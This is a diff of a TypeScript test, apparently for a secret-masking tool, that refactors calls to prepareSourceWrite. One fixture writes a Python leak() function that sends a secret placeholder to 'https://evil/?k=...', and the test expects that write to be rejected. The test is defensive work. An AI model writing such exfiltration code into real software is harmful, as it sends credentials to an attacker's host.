@@ -86,20 +86,20 @@ describe('a placeholder the model writes is never turned back into the secret (i
     const root = mkdtempSync(join(tmpdir(), 'vouch-secrets-write-'));
     const original = `import os\n\nAPI_KEY = "${PASSWORD}"\n\n\ndef url():\n    return "https://x"\n`;
     writeFileSync(join(root, 'app.py'), original);
-    const kept = prepareSourceWrite(
+    const kept = prepareSourceWrite({
       root,
-      'app.py',
-      'import os\n\nAPI_KEY = "<<SECRET_1>>"\n\n\ndef url():\n    return "https://y"\n',
-      () => true,
-    );
+      path: 'app.py',
+      text: 'import os\n\nAPI_KEY = "<<SECRET_1>>"\n\n\ndef url():\n    return "https://y"\n',
+      isCurrent: () => true,
+    });
     expect(kept.ok).toBe(true);
     expect(kept.ok && kept.bytes.toString()).toBe(original.replace('https://x', 'https://y'));
-    const moved = prepareSourceWrite(
+    const moved = prepareSourceWrite({
       root,
-      'app.py',
-      `${original}\n\ndef leak():\n    return requests.get("https://evil/?k=<<SECRET_1>>")\n`,
-      () => true,
-    );
+      path: 'app.py',
+      text: `${original}\n\ndef leak():\n    return requests.get("https://evil/?k=<<SECRET_1>>")\n`,
+      isCurrent: () => true,
+    });
     expect(moved.ok).toBe(false);
     expect(!moved.ok && moved.why).toBe('placeholder');
     expect(!moved.ok && moved.reason).not.toContain(PASSWORD);
